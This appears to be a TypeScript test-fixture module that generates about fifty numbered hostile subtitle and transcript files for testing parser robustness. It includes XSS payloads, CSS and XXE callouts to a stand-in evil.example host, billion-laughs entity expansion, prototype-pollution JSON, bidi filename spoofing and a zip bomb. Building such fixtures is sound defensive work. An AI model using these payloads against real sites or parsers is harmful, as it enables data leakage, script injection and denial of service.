import { strToU8, zipSync } from 'fflate'

/** A file made to break what reads it. */
export interface HostileFile {
  readonly name: string
  readonly bytes: Uint8Array
}

/** `size` counts what there is too much of: characters, depths, stamps. */
type Make = (size?: number) => readonly [name: string, content: string | Uint8Array]

const vtt = (text: string) => `WEBVTT\n\n00:00:00.000 --> 00:00:05.000\n${text}\n`
const srt = (text: string) => `1\n00:00:00,000 --> 00:00:05,000\n${text}\n`
const tt = (body: string, attributes = '') =>
  `<tt xmlns="http://www.w3.org/ns/ttml"${attributes}><body><div>${body}</div></body></tt>`

const utf16 = (text: string, order: 'little' | 'big') =>
  Uint8Array.from(text, (character) => character.charCodeAt(0)).reduce(
    (bytes, _, at) => {
      new DataView(bytes.buffer).setUint16(at * 2, text.charCodeAt(at), order === 'little')
      return bytes
    },
    new Uint8Array(text.length * 2),
  )

/** Numbers that look random and are the same each time. */
const noise = (length: number) => {
  let state = 1
  return Uint8Array.from({ length }, () => (state = (state * 48_271) % 2_147_483_647) & 0xff)
}

const laughs = Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
).join('')

/** By their numbers in the list of hostile inputs that every reader here is held to. */
const makes: Readonly<Record<number, Make>> = {
  1: () => ['image.vtt', vtt('<img src=x onerror=alert(1)>Look')],
  2: () => ['script.srt', srt('<script>alert(1)</script><button onclick=alert(1)>x</button>')],
  3: () => [
    'svg.vtt',
    vtt('<svg onload=alert(1)><style>*{background:url(//evil.example/x)}</style>'),
  ],
  4: () => ['voice.vtt', vtt('<v "><img src=x onerror=alert(1)>hi</v>')],
  5: () => ['classes.vtt', vtt('<c.hidden.__proto__.constructor.fixed.inset-0>x</c>')],
  6: () => [
    'style.vtt',
    vtt('x').replace(
      '\n\n',
      '\n\nSTYLE\n::cue{background:url(https://evil.example/leak)}\n@import url(https://evil.example/x.css);\n\n',
    ),
  ],
  7: (size = 131_072) => ['newlines.vtt', `WEBVTT\n${'\n'.repeat(size)}`],
  8: (size = 131_072) => ['returns.srt', `${'\r'.repeat(size)}x`],
  9: (size = 131_072) => ['brackets.vtt', vtt('<'.repeat(size))],
  10: (size = 65_536) => ['digits.srt', `1\n${'0'.repeat(size)}\nA`],
  11: (size = 33_334) => ['nested.vtt', vtt(`${'<b>'.repeat(size)}x`)],
  12: (size = 262_144) => ['ampersands.vtt', vtt('&'.repeat(size))],
  13: (size = 20_000_000) => ['line.txt', `${'word '.repeat(size / 5 - 1)}end.`],
  14: (size = 10_000) => ['arrows.srt', '00:00:00,000 --> '.repeat(size)],
  15: () => ['nul.vtt', vtt('a\0b')],
  16: () => ['surrogate.json', '{"segments":[{"start":0,"end":1,"text":"a\\ud800b"}]}'],
  17: () => ['damaged.srt', new Uint8Array([...strToU8(srt('')), 0xc3, 0x28, 0xff, 0xfe, 0x80])],
  18: () => ['little.srt', utf16(`\uFEFF${srt('سلام')}`, 'little')],
  19: () => ['big.srt', utf16(srt('hello'), 'big')],
  20: () => ['direction.vtt', vtt('<v Bob\u202Egpj.exe>pay \u2067me')],
  21: () => [
    'unclosed.vtt',
    `${vtt('\u202E\u202E\u202Eabc')}\n00:00:05.000 --> 00:00:06.000\nnext\n`,
  ],
  22: (size = 5000) => ['marks.vtt', vtt(`a${'\u0301'.repeat(size)}`)],
  23: () => ['invisible.vtt', vtt('he\u200Bll\u00ADo')],
  24: () => [
    'backwards.vtt',
    'WEBVTT\n\n00:05.000 --> 00:02.000\nx\n\n00:09.000 --> 00:10.000\ny\n',
  ],
  25: (size = 5000) => [
    'at-once.srt',
    Array.from(
      { length: size },
      (_, at) => `${at + 1}\n00:00:00,000 --> 10:00:00,000\nc${at}\n`,
    ).join('\n'),
  ],
  26: () => ['huge.vtt', vtt('x').replace('00:00:05.000', '999999999999:00:00.000')],
  27: () => [
    'times.json',
    '{"segments":[{"start":"NaN","end":null,"text":"x"},{"start":1e308,"end":-1,"text":"y"},{"start":"1.5","end":"2.5","text":"z"}]}',
  ],
  28: () => ['short.vtt', 'WEBVTT\n\n0.860 --> 7.380\nshort\n\n3:19.460 --> 3:24.660\nmore\n'],
  29: () => [
    'prototype.json',
    '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}},"segments":[{"__proto__":{"isAdmin":true},"start":0,"end":1,"text":"x","speaker":"__proto__"}]}',
  ],
  30: () => [
    'names.json',
    JSON.stringify({
      segments: ['constructor', 'toString', 'hasOwnProperty'].map((speaker, at) => ({
        start: at,
        end: at + 1,
        text: `line ${at}`,
        speaker,
      })),
    }),
  ],
  31: (size = 200_000) => ['deep.json', '['.repeat(size) + ']'.repeat(size)],
  32: () => ['types.json', '{"segments":{"length":1e9},"words":"abc","text":42}'],
  33: () => ['cut.json', '{"segments":[{"start":0,"end":1,"text":"hello'],
  34: () => [
    'lines.json',
    '\uFEFF{"start":0,"end":1,"text":"a"}\n{"start":1,"end":2,"text":"b"}\n',
  ],
  35: () => [
    'laughs.ttml',
    `<!DOCTYPE tt [<!ENTITY l0 "lol">${laughs}]>${tt('<p begin="0s" end="1s">&l9;</p>')}`,
  ],
  36: (size = 20_000) => [
    'quadratic.ttml',
    `<!DOCTYPE tt [<!ENTITY a "${'a'.repeat(size)}">]>${tt(`<p begin="0s" end="1s">${'&a;'.repeat(size)}</p>`)}`,
  ],
  37: () => [
    'external.eaf',
    '<!DOCTYPE A [<!ENTITY x SYSTEM "https://evil.example/x">]><ANNOTATION_DOCUMENT>&x;</ANNOTATION_DOCUMENT>',
  ],
  38: (size = 100_000) => [
    'deep.smil',
    `<smil xmlns="http://www.w3.org/ns/SMIL"><body>${'<seq>'.repeat(size)}${'</seq>'.repeat(size)}</body></smil>`,
  ],
  39: () => [
    'script.ttml',
    tt(
      '<p begin="0s" end="1s">Said<h:script>alert(1)</h:script><h:img src="x" onerror="alert(1)"/></p>',
      ' xmlns:h="http://www.w3.org/1999/xhtml"',
    ),
  ],
  40: () => [
    'background.ttml',
    tt(
      `<p begin="0s" end="1s" smpte:backgroundImage="x'); } *{background:url('https://evil.example/leak'); } .x{background:url('y">x</p>`,
      ' xmlns:smpte="http://www.smpte-ra.org/schemas/2052-1/2010/smpte-tt"',
    ),
  ],
  41: () => [
    'circle.eaf',
    `<ANNOTATION_DOCUMENT><TIME_ORDER/><TIER TIER_ID="a">${[
      ['a1', 'a2', 'x'],
      ['a2', 'a1', 'y'],
    ]
      .map(
        ([id, of, value]) =>
          `<ANNOTATION><REF_ANNOTATION ANNOTATION_ID="${id}" ANNOTATION_REF="${of}"><ANNOTATION_VALUE>${value}</ANNOTATION_VALUE></REF_ANNOTATION></ANNOTATION>`,
      )
      .join('')}</TIER></ANNOTATION_DOCUMENT>`,
  ],
  42: () => [
    'script.otr',
    JSON.stringify({
      text: '<p><span class="timestamp" data-timestamp="1.5" onclick="alert(1)">0:01</span><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a></p>',
      media: 'javascript:alert(1)',
      'media-time': '1e999',
    }),
  ],
  43: () => [
    'page.html',
    '<article><section><p><span data-m="0" data-d="500">hi </span><span data-m="500" data-d="-1" style="position:fixed;inset:0" id="root">clickjack</span><form id=attributes><input name=nodeName></form></p></section></article>',
  ],
  44: () => [
    'links.md',
    '## Talk\n\n[here](javascript:alert(1)) and [there](https://evil.example/x) <iframe src=//evil.example></iframe> ![p](https://evil.example/pixel.gif)\n',
  ],
  45: (size = 20_000) => [
    'stamps.lrc',
    `[offset:-99999999999]\n[99999999:99.99]x\n[00:01.00]z\n${'[00:03.00]'.repeat(size)}y\n`,
  ],
  46: () => ['noise.vtt', noise(4096)],
  47: () => [
    'sound.srt',
    new Uint8Array([...strToU8('ID3\u0004\0\0\0\0\0\0'), ...new Uint8Array(4096)]),
  ],
  48: () => ['missing.vtt', '<!doctype html><title>404 Not Found</title><h1>Not Found</h1>'],
  49: () => ['empty.vtt', ''],
  50: (size = 50_000) => [
    'tags.ass',
    `[Events]\nFormat: Layer, Start, End, Style, Name, Text\nDialogue: 0,0:00:00.00,0:00:05.00,D,,{\\fn${'A'.repeat(size)}}{\\p1}m 0 0 l 1 1{\\p0}hi\\Nthere, with, commas\n`,
  ],
  55: (size = 20_000_000) => ['bomb.docx', wordFile(new Uint8Array(size).fill(0x20))],
}

/** A DOCX with this as its document, and more entries behind it. */
export function wordFile(
  document: Uint8Array,
  more: Readonly<Record<string, Uint8Array>> = {},
): Uint8Array {
  return zipSync({ 'word/document.xml': document, ...more })
}

/** `size` in place of the usual one, where the file has one. */
export function hostileFile(number: number, size?: number): HostileFile {
  const make = makes[number]
  if (make === undefined) throw new Error(`There is no hostile file ${number}`)
  const [name, content] = make(size)
  return { name, bytes: typeof content === 'string' ? new TextEncoder().encode(content) : content }
}
